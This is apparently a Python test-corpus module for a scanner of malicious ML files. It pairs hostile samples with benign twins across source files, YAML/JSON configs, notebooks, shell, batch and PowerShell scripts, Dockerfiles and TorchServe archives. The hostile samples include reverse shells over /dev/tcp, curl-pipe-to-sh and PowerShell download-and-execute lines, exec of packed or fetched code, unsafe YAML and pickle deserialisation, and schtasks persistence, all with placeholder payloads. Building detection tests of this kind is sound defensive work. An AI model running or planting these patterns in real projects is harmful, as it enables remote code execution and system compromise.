"""Python sources, configurations, notebooks, scripts and bundles that act, each beside its twin."""

from __future__ import annotations

import base64
import codecs
import io
import json
import zipfile
import zlib
from collections.abc import Iterator

from tests.corpus.malicious.case import COMMAND, SOURCE, URL, Case

RUN = f"os.system({COMMAND!r})"
PACKED = base64.b64encode(zlib.compress(SOURCE.encode())).decode()

PYTHON: dict[str, tuple[str, str, str]] = {
    "on-import": (f"import os\n{RUN}", f"import os\ndef clean():\n    {RUN}", "high"),
    "in-class-body": (f"import os\nclass A:\n    a = {RUN}", "import os\nclass A:\n    a = os.sep",
                      "high"),
    "by-default-argument": (f"import os\ndef f(a={RUN}): pass", "import os\ndef f(a=os.sep): pass",
                            "high"),
    "method-of-object": (
        f"import os\nclass A:\n    def go(self):\n        {RUN}\nA().go()",
        f"import os\nclass A:\n    def go(self):\n        {RUN}\n",
        "high",
    ),
    "computed-name": ("import os\ngetattr(os, 'metsys'[::-1])('echo')", "import os\nos.getcwd()",
                      "high"),
    "name-of-numbers": (
        "__import__(bytes([111, 115]).decode()).system('echo')",
        "__import__(bytes([111, 115]).decode()).getcwd()",
        "high",
    ),
    "thread": (f"import os, threading\nthreading.Thread(target=os.system, args=({COMMAND!r},))",
               "import os, threading\nthreading.Thread(target=os.getcwd)", "high"),
    "packed-code": (
        f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({PACKED!r})))",
        f"import base64, zlib\nDATA = zlib.decompress(base64.b64decode({PACKED!r}))",
        "critical",
    ),
    "turned-code": (
        f"import codecs\nexec(codecs.decode({codecs.encode(SOURCE, 'rot13')!r}, 'rot13'))",
        f"import codecs\nTEXT = codecs.decode({codecs.encode(SOURCE, 'rot13')!r}, 'rot13')",
        "critical",
    ),
    "fetched-code": (
        f"import urllib.request\nexec(urllib.request.urlopen({URL!r}).read())",
        f"import urllib.request\ndef get():\n    return urllib.request.urlopen({URL!r})",
        "critical",
    ),
    "network-on-import": (f"import requests\nrequests.get({URL!r})",
                          f"import requests\ndef get():\n    return requests.get({URL!r})", "high"),
    "pickle-in-source": (
        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'echo SENTINEL_MARKER'\\ntR.\")",
        "import pickle\nX = pickle.dumps(b'abc')",
        "critical",
    ),
    "shell-away": (
        "import os, pty, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn('sh')",
        "import socket\ndef port():\n    s = socket.socket()\n    return s.getsockname()",
        "critical",
    ),
    "startup-file": ("open('/home/user/.bashrc', 'a').write('x')",
                     "def f():\n    open('out.txt', 'w').write('x')", "high"),
    "native": ("import ctypes\nctypes.CDLL('./payload.so')",
               "import ctypes\nctypes.CDLL('libc.so.6')", "medium"),
    "on-use": (
        f"import os\nclass Net:\n    def forward(self, x):\n        {RUN}",
        "import subprocess\nclass Net:\n    def forward(self, x):\n"
        "        subprocess.run(['ffmpeg', '-i', x])",
        "medium",
    ),
    "obfuscated": (
        "DATA = '" + "\\x41" * 60 + "'\nexec(DATA)", "DATA = '" + "\\x41" * 9 + "'\n", "medium",
    ),
}  # fmt: skip

SETUP = """
import os
from setuptools import setup
from setuptools.command.install import install

class Run(install):
    def run(self):
        {line}
        install.run(self)

setup(name="x", cmdclass={{"install": Run}})
"""

CONFIGS: dict[str, tuple[str, str, str, str]] = {
    "hydra": ("config.yaml", "model:\n  _target_: os.system\n  command: echo",
              "model:\n  _target_: torch.nn.Linear\n  in_features: 3", "critical"),
    "hydra-alias": ("config.yaml", "a: &x os.system\nb: {_target_: *x, command: echo}",
                    "a: &x torch.nn.ReLU\nb: {_target_: *x}", "critical"),
    "hydra-escaped": ("config.json", '{"\\u005ftarget_": "os.system", "command": "echo"}',
                      '{"\\u005ftarget_": "torch.nn.ReLU"}', "critical"),
    "hydra-given": ("config.yaml", "a:\n  _target_: functools.partial\n  _args_: [os.system]",
                    "a:\n  _target_: functools.partial\n  _args_: [torch.relu]", "high"),
    "lightning": ("config.yaml", "model:\n  class_path: os.system\n  init_args: {command: echo}",
                  "model:\n  class_path: torch.nn.Linear", "critical"),
    "lightning-instantiator": ("hparams.yaml", "_instantiator: os.system\nlr: 0.1",
                               "_instantiator: lightning.pytorch.cli.instantiate_module\nlr: 0.1",
                               "critical"),
    "peft-mapping": ("adapter_config.json", '{"peft_type": "LORA", "auto_mapping": '
                     '{"parent_library": "os", "base_model_class": "system"}}',
                     '{"peft_type": "LORA", "auto_mapping": {"parent_library": '
                     '"transformers.models.bert.modeling_bert", "base_model_class": "BertModel"}}',
                     "critical"),
    "sentence-router": ("router_config.json", '{"types": {"0_A": "os.system"}, "structure": {}}',
                        '{"types": {"0_A": "sentence_transformers.models.Pooling"}, '
                        '"structure": {}}', "critical"),
    "sentence-words": ("wordembedding_config.json", '{"tokenizer_class": "os.system"}',
                       '{"tokenizer_class": "sentence_transformers.models.tokenizer'
                       '.WhitespaceTokenizer.WhitespaceTokenizer"}', "critical"),
    "monai": ("bundle.json", '{"_target_": "UNet", "a": "$__import__(\'os\').system(\'echo\')"}',
              '{"_target_": "UNet", "a": "$@network.to(@device)"}', "high"),
    "yaml-apply": ("a.yaml", "a: !!python/object/apply:os.system ['echo']",
                   "# a: !!python/object/apply:os.system ['echo']\na: !!python/tuple [1]",
                   "critical"),
    "yaml-handle": ("a.yaml", "%TAG !e! tag:yaml.org,2002:python/\n---\n"
                    "a: !e!object/apply:os.system ['echo']",
                    "%TAG !e! tag:yaml.org,2002:\n---\na: !e!str x", "critical"),
    "yaml-verbatim": ("a.yaml", "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['echo']",
                      "a: '!<tag:yaml.org,2002:python/object/apply:os.system>'", "critical"),
    "yaml-percent": ("a.yaml", "a: !!python%2Fobject/apply:os.system ['echo']",
                     "a: |\n  !!python/object/apply:os.system ['echo']", "critical"),
    "yaml-name": ("a.yaml", "a: !!python/name:exec", "a: !!python/name:builtins.len", "high"),
    "yaml-module": ("a.yaml", "a: !!python/module:antigravity", "a: !!python/module:numpy", "high"),
    "yaml-unknown": ("a.yaml", "a: !!python/object/apply:other.thing [1]",
                     "a: !!python/tuple [1]", "medium"),
    "jsonpickle": ("a.json", '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["e"]}]}',
                   '{"py/object": "collections.OrderedDict"}', "critical"),
    "jsonpickle-text": ("a.json", '{"py/repr": "os/os.system(1)"}', '{"py/id": 1}', "high"),
    "sentence-modules": ("modules.json", '[{"idx": 0, "type": "os.system"}]',
                         '[{"idx": 0, "type": "sentence_transformers.models.Transformer"}]',
                         "critical"),
    "activation": ("config.json", '{"activation_function": "os.abort"}',
                   '{"activation_function": "torch.nn.modules.activation.Tanh"}', "medium"),
    "mlflow-module": ("MLmodel", "flavors:\n  python_function:\n    loader_module: subprocess\n",
                      "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", "high"),
    "mlflow-path": ("MLmodel", "flavors:\n  python_function:\n    code: ../../code\n",
                    "flavors:\n  python_function:\n    code: code\n", "high"),
    "triton-path": ("config.pbtxt", 'backend: "python"\ndefault_model_filename: "../../x.py"',
                    'backend: "python"\ndefault_model_filename: "model.py"', "high"),
    "kedro": ("catalog.yml", "a:\n  type: os.system\n  filepath: x",
              "a:\n  type: pandas.CSVDataset\n  filepath: data/x.csv", "high"),
    "script-fetches": ("run.sh", f"curl -s {URL} |\\\n  bash", f"curl -s {URL} | jq .", "medium"),
    "script-shell": ("run.sh", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
                     "bash train.sh > /dev/null", "high"),
    "dockerfile": ("Dockerfile", f"FROM python:3.11\nRUN curl -s {URL} \\\n | sh\n",
                   "FROM python:3.11\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\n"
                   "RUN echo 'source /etc/profile' >> ~/.bashrc\n", "medium"),
    "dockerfile-other": ("Dockerfile.gpu", "FROM x\nRUN bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n",
                         "FROM x\nRUN rm -rf /var/lib/apt/lists/*\n", "high"),
    "makefile": ("Makefile", f"all:\n\tcurl {URL} | sh\n", "all:\n\tpython train.py\n", "medium"),
    "batch": ("run.bat", "@echo off\r\npowershell -enc SQBFAFgA\r\n",
              "@echo off\r\npython infer.py\r\n", "high"),
    "batch-fetches": ("run.cmd", f"certutil -urlcache -f {URL} x.exe & x.exe\r\n",
                      "certutil -hashfile model.bin SHA256\r\n", "medium"),
    "batch-stays": ("run.bat", "schtasks /create /tn x /tr x.exe /sc onlogon\r\n",
                    "schtasks /query\r\n", "high"),
    "powershell": ("run.ps1", f"IEX (New-Object Net.WebClient).DownloadString('{URL}')",
                   "irm https://astral.sh/uv/install.ps1 | iex", "medium"),
    "powershell-encoded": ("run.ps1", "iex ([Text.Encoding]::UTF8.GetString([Convert]::"
                           "FromBase64String('aQBkAA==')))", "python -m pip install torch", "high"),
    "tasks": ("tasks.json", f'{{"tasks": [{{"type": "shell", "command": "curl {URL} | sh"}}]}}',
              '{"tasks": [{"type": "shell", "command": "make"}]}', "medium"),
    "package-script": ("package.json", f'{{"scripts": {{"postinstall": "curl {URL} | sh"}}}}',
                       '{"scripts": {"test": "jest"}}', "medium"),
    "compose": ("docker-compose.yml", f"services:\n  a:\n    command: sh -c 'curl {URL} | sh'\n",
                "services:\n  a:\n    image: x\n", "medium"),
    "no-suffix": ("install", f"#!/bin/bash\ncurl {URL} | sh\n", "#!/bin/bash\necho hi\n", "medium"),
    "script-encoded": ("run.sh", "echo aGk= | base64 -d | sh", "echo aGk= | base64 -d > out",
                       "high"),
}  # fmt: skip


def notebook(*cells: str) -> bytes:
    """Return a notebook of some cells of code."""
    found = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": one} for one in cells]
    about = {"language_info": {"name": "python"}}
    whole = {"cells": found, "metadata": about, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(whole).encode()


def archive(handler: str, requirements: str = "requirements.txt") -> bytes:
    """Return a TorchServe archive with a handler."""
    model = {"modelName": "m", "serializedFile": "m.pt", "handler": "handler.py",
             "requirementsFile": requirements}  # fmt: skip
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("handler.py", handler)
        file.writestr("MAR-INF/MANIFEST.json", json.dumps({"model": model}))
    return out.getvalue()


def cases() -> Iterator[Case]:
    for name, (hostile, twin, expect) in PYTHON.items():
        yield _case(name, "source", "modeling_x.py", hostile.encode(), twin.encode(), expect)
    benign = SETUP.format(line="print(os.sep)").encode()
    yield _case("setup", "source", "setup.py", SETUP.format(line=RUN).encode(), benign, "medium")
    for name, (file, hostile, twin, expect) in CONFIGS.items():
        yield _case(name, "configuration", file, hostile.encode(), twin.encode(), expect)
    yield _case("cells", "notebook", "a.ipynb", notebook("import os\n!ls", RUN),
                notebook("import os\n!ls", "os.getcwd()"), "high")  # fmt: skip
    yield _case("shell-cell", "notebook", "a.ipynb", notebook(f"%%bash\ncurl {URL} | sh"),
                notebook(f"%%bash\ncurl {URL} > out"), "medium")  # fmt: skip
    yield _case("handler", "torchserve", "a.mar", archive(f"import os\n{RUN}"),
                archive("import os\nclass H:\n    pass"), "high")  # fmt: skip
    yield _case("manifest", "torchserve", "a.mar", archive("", "../../requirements.txt"),
                archive(""), "high")  # fmt: skip


def _case(name: str, family: str, file: str, data: bytes, twin: bytes, expect: str) -> Case:
    return Case(name, family, file, data, twin, expect, reaches=False)
